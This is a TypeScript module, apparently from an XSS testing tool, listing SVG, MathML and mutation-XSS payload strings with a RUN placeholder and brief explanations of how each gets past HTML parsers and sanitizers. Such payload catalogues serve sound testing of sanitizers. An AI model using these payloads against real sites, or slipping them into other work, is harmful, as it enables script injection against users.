/**
 * SVG and MathML, which are parsed differently from HTML, and texts that change when they are serialized and parsed
 * again.
 */
import type { Technique } from '../payload.ts'

export const namespaces: Technique = {
  name: 'SVG and MathML',
  runsAs: 'html',
  attempts: [
    ['<svg onload=RUN>', 'a drawing that loads'],
    ['<svg/onload=RUN>', 'the same without a space'],
    ['<svg><script>RUN</script></svg>', 'a script inside a drawing'],
    ['<svg><script>ran&#40;0&#41;;RUN</script></svg>', 'in SVG a script’s entities are decoded'],
    ['<svg><script href="data:text/javascript,RUN"/></svg>', 'SVG names the address otherwise'],
    ['<svg><script xlink:href="data:text/javascript,RUN"/></svg>', 'and so did its first version'],
    ['<svg><animate onbegin=RUN attributeName=x dur=1s>', 'an animation that begins'],
    ['<svg><set onbegin=RUN attributeName=x to=1>', 'an animation of no length'],
    [
      '<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>x</text></a></svg>',
      'animates an address',
    ],
    ['<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>', 'a link inside a drawing'],
    ['<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>', 'HTML inside SVG'],
    ['<svg><image href=x onerror=RUN /></svg>', 'an image inside a drawing'],
    ['<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"></svg>', 'another drawing by its address'],
    ['<svg><style><img src=x onerror=RUN></style></svg>', 'in SVG a style holds elements'],
    ['<svg><title><img src=x onerror=RUN></title></svg>', 'a title is an integration point: HTML again'],
    ['<math><maction actiontype=statusline href=javascript:RUN>x</maction></math>', 'MathML that can be pressed'],
    ['<math href="javascript:RUN">x</math>', 'any MathML element was a link once'],
    ['<math><mtext><img src=x onerror=RUN></mtext></math>', 'text inside MathML is HTML'],
    ['<math><annotation-xml encoding="text/html"><img src=x onerror=RUN>', 'another way back to HTML'],
  ],
}

export const mutations: Technique = {
  name: 'mutation',
  runsAs: 'html',
  attempts: [
    ['<math><mtext><table><mglyph><style><!--</style><img src=x onerror=RUN>', 'a table moves what follows it out'],
    ['<svg></p><style><a id="</style><img src=x onerror=RUN>">', 'the end tag of a paragraph ends the drawing'],
    ['<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>', 'forms cannot nest'],
    ['<noscript><style></noscript><img src=x onerror=RUN>', 'a style that is text in one reading only'],
    ['<p><svg><desc><table><p><img title="</desc><img src=x onerror=RUN>">', 'foster parenting'],
    ['<xmp><p title="</xmp><img src=x onerror=RUN>">', 'raw text in an element that filters forget'],
    ['<noembed><p title="</noembed><img src=x onerror=RUN>">', 'another'],
    ['<listing>&lt;img src=x onerror=RUN&gt;</listing>', 'elements that once lost their escapes when read back'],
    ['<select><template><style><img src=x onerror=RUN></style></template></select>', 'a list lets few elements in'],
    ['<table><td><style><td><img src=x onerror=RUN></style>', 'a cell in a style in a cell'],
    ['<template><img src=x onerror=RUN></template>', 'lies still until a script copies it'],
    ['<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>', 'a shadow tree from markup'],
    ['<template><script>RUN</script></template>', 'a script that waits to be adopted'],
    ['<plaintext><img src=x onerror=RUN>', 'turns the rest of the page into text'],
    ['<p>&lt;img src=x onerror=RUN&gt;</p>', 'runs if decoded once too often'],
    ['&lt;img src=x onerror=RUN&gt;', 'the same by itself'],
    ['&amp;lt;img src=x onerror=RUN&amp;gt;', 'the same twice over'],
    ['%3Cimg src=x onerror=RUN%3E', 'runs if an address is decoded into the page'],
  ],
}
